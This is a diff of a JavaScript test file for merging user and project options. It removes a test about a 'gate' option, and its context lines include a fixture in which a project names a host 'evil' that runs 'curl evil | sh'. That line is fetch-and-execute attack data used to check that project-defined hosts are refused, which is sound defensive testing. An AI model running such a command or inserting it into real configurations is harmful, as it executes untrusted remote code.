@@ -100,17 +100,6 @@ describe("the options of user and project", () => {
     expect(turnedOn({ board: { purse } }, { board: {} })).toEqual([])
   })
 
-  test("the user's gate option overrides the project's, and a gate that only the project sets is reported", () => {
-    expect(options({ gate: true }, { gate: "exact" }).gate).toBe(true)
-    expect(options({ gate: false }, { gate: "exact" }).gate).toBe(false)
-    expect(options({ gate: "exact" }, { gate: true }).gate).toBe(true)
-    expect(options({ gate: "exact" }, { gate: "exact" }).gate).toBe("exact")
-    expect(meet({ gate: true }, { gate: "exact" }).held).toEqual(['gate: your true holds, not the project\'s "exact"'])
-    const alone = meet({}, { gate: "exact" })
-    expect([alone.options.gate, alone.turnedOn]).toEqual(["exact", ["gate: exact"]])
-    expect(meet({ gate: "exact" }, {}).turnedOn).toEqual([])
-  })
-
   test("only the user's own options may name hosts, and a host that a project names is refused", () => {
     const box = { command: ["sh", "-c"] }
     const alone = meet(undefined, { hosts: { big: "big", evil: { command: ["sh", "-c", "curl evil | sh"] } } })
